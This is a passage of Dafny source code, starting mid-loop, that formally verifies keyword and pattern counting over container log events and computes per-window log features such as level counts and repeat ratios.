        counts'[KEYWORDS[t]] == counts[KEYWORDS[t]] + (if t < j && Contains(msgL, KEYWORDS[t]) then 1 else 0)
    {
      var k := KEYWORDS[j];
      if Contains(msgL, k) {
        counts' := counts'[k := counts'[k] + 1];
      }
      j := j + 1;
    }
  }

  /** The inner pattern loop for one message: one increment per pattern that finds something in it. */
  method AddPatternHits(counts: map<string, nat>, msg: string) returns (counts': map<string, nat>)
    requires counts.Keys == PATTERNS.Keys
    ensures counts'.Keys == PATTERNS.Keys
    ensures forall name :: name in PATTERNS ==> counts'[name] == counts[name] + (if PatternMatches(name, msg) then 1 else 0)
  {
    PatternNamesAreKeys();
    counts' := counts;
    var j := 0;
    while j < |PATTERN_NAMES|
      invariant 0 <= j <= |PATTERN_NAMES|
      invariant counts'.Keys == PATTERNS.Keys
      invariant forall t :: 0 <= t < |PATTERN_NAMES| ==>
        counts'[PATTERN_NAMES[t]] == counts[PATTERN_NAMES[t]] + (if t < j && PatternMatches(PATTERN_NAMES[t], msg) then 1 else 0)
    {
      var name := PATTERN_NAMES[j];
      if PatternMatches(name, msg) {
        counts' := counts'[name := counts'[name] + 1];
      }
      j := j + 1;
    }
  }

  /** The pattern loop: one pass over the events, and for each event one increment per pattern that finds something. */
  method CountPatterns(events: seq<LogEvent>) returns (counts: map<string, nat>)
    ensures counts == PatternHits(events)
  {
    counts := map name | name in PATTERNS :: 0;
    var i := 0;
    while i < |events|
      invariant 0 <= i <= |events|
      invariant counts == PatternHits(events[..i])
    {
      counts := AddPatternHits(counts, events[i].message);
      assert events[..i + 1][..i] == events[..i];
      forall name | name in PATTERNS ensures counts[name] == PatternCount(events[..i + 1], name) {
      }
      PatternHitsByEntry(counts, events[..i + 1]);
      i := i + 1;
    }
    assert events[..|events|] == events;
  }

  lemma PatternHitsByEntry(counts: map<string, nat>, events: seq<LogEvent>)
    requires counts.Keys == PATTERNS.Keys
    requires forall name :: name in PATTERNS ==> counts[name] == PatternCount(events, name)
    ensures counts == PatternHits(events)
  {
  }

  /** `compute_features(container, events)`. */
  method ComputeFeatures(container: string, events: seq<LogEvent>) returns (f: WindowFeatures)
    ensures f == FeaturesOf(container, events)
    ensures WellFormed(f)
  {
    var kw := CountKeywords(events);
    var pat := CountPatterns(events);
    f := WindowFeatures(container, |events|,
      LevelCount(events, "DEBUG"), LevelCount(events, "INFO"), LevelCount(events, "WARN"), LevelCount(events, "ERROR"),
      UniqRatio(events), RepeatRatio(events), kw, pat);
    FeaturesWellFormed(container, events);
  }
}
